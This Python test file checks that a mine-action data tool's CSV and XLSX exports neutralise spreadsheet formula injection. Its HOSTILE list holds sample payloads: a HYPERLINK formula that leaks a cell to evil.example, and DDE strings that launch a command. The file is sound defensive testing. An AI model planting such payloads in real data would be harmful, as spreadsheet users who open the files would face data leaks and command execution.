"""Formula injection end to end: hostile names imported into a store come out of every CSV
and XLSX the product writes as text a spreadsheet shows, never as formulas, while numbers
(``-3`` typed as a name, negative balances) stay numbers."""

from __future__ import annotations

import csv
import dataclasses
import io
import zipfile
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pytest
import shapely
from typer.testing import CliRunner

from minewatch.cli import _register_commands, app
from minewatch.domain.cells import formula_like

_register_commands()
runner = CliRunner()

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
]
NUMERIC = "-3"


def run(*args: str) -> str:
    result = runner.invoke(app, list(args), catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.output


def assert_safe(text: str) -> list[list[str]]:
    """Every cell of the CSV ``text`` is safe; each hostile name appears neutralised, and the
    numeric one as the plain number."""
    rows = list(csv.reader(io.StringIO(text)))
    cells = [c for row in rows for c in row]
    assert [c for c in cells if formula_like(c)] == []
    for name in HOSTILE:
        assert "'" + name in cells
        assert name not in cells
    assert NUMERIC in cells
    return rows


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> str:
    folder = tmp_path_factory.mktemp("formula")
    names = [*HOSTILE, NUMERIC]
    frame = gpd.GeoDataFrame(
        {
            "code": [f"EXT-{i}" for i in range(len(names))],
            "name": names,
            "status": ["open"] * len(names),
        },
        geometry=[
            shapely.box(30 + i / 100, 50, 30.005 + i / 100, 50.005) for i in range(len(names))
        ],
        crs=4326,
    )
    source = folder / "hostile.geojson"
    frame.to_file(source)
    path = str(folder / "store.gpkg")
    run("init", path)
    run("import", str(source), "--kind", "hazardous_area", "--id-column", "code", "-s", path,
        "--state", "approved")  # fmt: skip
    return path


def test_export_csv(store: str, tmp_path: Path) -> None:
    out = tmp_path / "areas.csv"
    run("export", "hazardous_area", str(out), "-s", store)
    assert_safe(out.read_text(encoding="utf-8"))


def test_export_zipped_shapefile_field_listing(store: str, tmp_path: Path) -> None:
    out = tmp_path / "areas.zip"
    run("export", "hazardous_area", str(out), "-s", store)
    with zipfile.ZipFile(out) as archive:
        listing = archive.read("field_names.csv").decode()
    rows = list(csv.reader(io.StringIO(listing)))
    assert rows[0] == ["field", "shapefile_field"] and len(rows) > 5


def test_list_format_csv(store: str) -> None:
    assert_safe(run("list", "hazardous_area", "-s", store, "--format", "csv"))


def test_published_hxl_and_data_package(store: str, tmp_path: Path) -> None:
    run("publish", "hxl", str(tmp_path / "hxl"), "-s", store, "--kind", "hazardous_area")
    assert_safe((tmp_path / "hxl" / "hazardous_area.hxl.csv").read_text(encoding="utf-8"))
    run("publish", "package", str(tmp_path / "package"), "-s", store)
    assert_safe((tmp_path / "package" / "hazardous_area.hxl.csv").read_text(encoding="utf-8"))


def test_ranked_csv_keeps_negative_numbers(tmp_path: Path) -> None:
    from minewatch.io.priority import write_ranked_csv

    ranked = gpd.GeoDataFrame(
        {"code": [*HOSTILE, NUMERIC], "score": [-3.5, 1.0, 2.0, 3.0, 4.0]},
        geometry=[shapely.Point(30, 50)] * 5,
        crs=4326,
    )
    path = write_ranked_csv(ranked, tmp_path / "ranked.csv")
    assert_safe(path.read_text(encoding="utf-8"))
    assert pd.read_csv(path)["score"].tolist()[0] == -3.5


def test_findings_csv_of_a_file_check(tmp_path: Path) -> None:
    frame = gpd.GeoDataFrame(
        {"HAZ_ID": [*HOSTILE, NUMERIC], "STATUS": [*HOSTILE, NUMERIC]},
        geometry=[shapely.box(30 + i / 100, 50, 30.005 + i / 100, 50.005) for i in range(5)],
        crs=4326,
    )
    source = tmp_path / "check.geojson"
    frame.to_file(source)
    mapping = tmp_path / "mapping.toml"
    mapping.write_text(
        'kind = "hazardous_area"\nid_column = "HAZ_ID"\n[fields]\nstatus = { column = "STATUS" }\n'
    )
    findings, rejects = tmp_path / "findings.csv", tmp_path / "rejects.csv"
    run(
        "geodata",
        "check",
        str(source),
        "-m",
        str(mapping),
        "--findings",
        str(findings),
        "--rejects",
        str(rejects),
    )
    for path in (findings, rejects):
        cells = [c for row in csv.reader(io.StringIO(path.read_text())) for c in row]
        assert [c for c in cells if formula_like(c)] == []
    assert_safe(rejects.read_text())


def test_treaty_export_csv() -> None:
    from minewatch.services.treaty_rows import export

    text = export([{"state": name, "count": -3} for name in [*HOSTILE, NUMERIC]], "csv")
    assert_safe(text)
    assert "-3\n" in text


def test_xlsform_cells_are_text(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    from minewatch.forms.build import write_xlsform
    from minewatch.forms.definitions import FORMS

    form = next(iter(FORMS.values()))
    hostile = dataclasses.replace(form, title=HOSTILE[0])
    path = write_xlsform(hostile, tmp_path / "form.xlsx")
    sheet = load_workbook(path)["settings"]
    assert sheet["A2"].value == "'" + HOSTILE[0]
    assert sheet["A2"].data_type == "s"


def test_land_release_report_csvs(tmp_path: Path) -> None:
    """A region's name comes from a location's name, which any data worker can propose."""
    from datetime import date

    from benchmarks.synthetic_landrelease_store import build_store

    from minewatch.charts.landrelease import write_release_report
    from minewatch.domain.access import local_admin
    from minewatch.domain.records import Kind
    from minewatch.domain.reports import ReportState
    from minewatch.services import landrelease as service
    from minewatch.services.records import Draft, Workflow
    from minewatch.store import open_store

    url = build_store(tmp_path / "release.gpkg")
    with open_store(url) as store:
        Workflow(store, local_admin()).create_drafts(
            [Draft(Kind.LOCATION, {"name": HOSTILE[0]}, date(2024, 1, 1), item_ref="LOC-N")],
            state=ReportState.APPROVED,
        )
        text = service.report_csv(store, "by_region")
        accounting, tables = service.report(store, area_tolerance_fraction=0.05)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][0] == f"'{HOSTILE[0]} (LOC-N)"
    assert [c for row in rows for c in row if formula_like(c)] == []
    write_release_report(accounting, tables, tmp_path / "report", formats=("csv",))
    by_region = pd.read_csv(tmp_path / "report" / "land-release-by-region.csv")
    assert by_region["location_code"].iloc[0] == f"'{HOSTILE[0]} (LOC-N)"
    assert by_region["released_m2"].dtype == float  # numbers stay numbers
